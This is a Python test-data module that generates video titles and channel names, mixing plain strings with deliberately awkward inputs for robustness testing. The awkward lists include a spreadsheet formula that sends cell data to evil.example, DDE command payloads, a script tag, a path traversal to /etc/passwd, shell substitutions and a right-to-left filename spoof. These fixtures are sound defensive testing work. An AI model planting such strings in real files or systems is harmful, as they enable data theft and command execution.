"""Titles and channels: most plain, a good share with everything that breaks careless programs."""

from __future__ import annotations

_THINGS = (
    "Morning rain on a tin roof", "Street band in the old town", "Dog and seagulls at the beach",
    "How to tune a hurdy-gurdy", "Steam engine passing", "Church bells at noon", "My first song",
    "Lecture 4: Sound and society", "Fireworks over the harbour", "Cat purrs for ten minutes",
    "Workshop: sharpening a plane", "Train horn compilation", "Crowd at the derby",
    "Baby laughs at paper", "Thunder in the mountains", "Live at the town hall",
)  # fmt: skip
# Quotes, line ends, formulas, markup, escapes, right to left, whatever ends up in a CSV.
_AWKWARD = (
    'He said "listen", then left', "commas, commas, and; semicolons", "two\nlines\r\nor three",
    "😀🎸 emoji 👩‍👩‍👧‍👦 family 🇨🇭", "مرحبا بالعالم — صوت", "שלום עולם \u202eevil.exe",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+41 79 000 00 00 call me",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\ttab first",
    "<script>alert('x')</script><b>bold</b> &amp; &lt;", "\x1b[31mred\x1b[0m\x1b]0;title\x07 bell",
    "日本語のタイトル「音」", "Ünïcödé ñandú Ǆ ﬀ", "back\\slash 'quote' `tick` $(whoami) ${HOME}",
    "../../etc/passwd", "%s %d {0} {title} %(id)s", "nul\u2028line\u2029separators\u00a0nbsp",
    "e\u0301 combining vs é", "trailing spaces   ", "# heading | table | *bold* [link](http://x)",
    "long " * 200 + "end",
)  # fmt: skip
_WHO = (
    "North Shore Recordings", "Anna & the Field Mice", "Harbour Radio", "Prof. R. Okafor",
    "Tiny Workshop", "The Berry Hill Choir", "Railfan 52", "Slow Television",
)  # fmt: skip
_AWKWARD_WHO = (
    "O'Brien, \"Sons\" & Daughters", "قناة الأصوات", "=1+1", "🎧", "<i>Studio</i>", "チャンネル音",
    "line\nbreak TV", "\x1b[2Jclear", "x" * 99,
)  # fmt: skip


def title(number: int, video_id: str) -> str:
    """A title for the video; one in three is awkward. The id keeps it unique."""
    # By number, not at random: the same video has the same title in every process.
    if number % 3 == 0:
        return _AWKWARD[number // 3 % len(_AWKWARD)]
    return f"{_THINGS[number % len(_THINGS)]} ({video_id})"


def channel(number: int) -> str:
    """A channel's name; one in four is awkward."""
    if number % 4 == 0:
        return _AWKWARD_WHO[number // 4 % len(_AWKWARD_WHO)]
    return f"{_WHO[number % len(_WHO)]} {number % 97}"
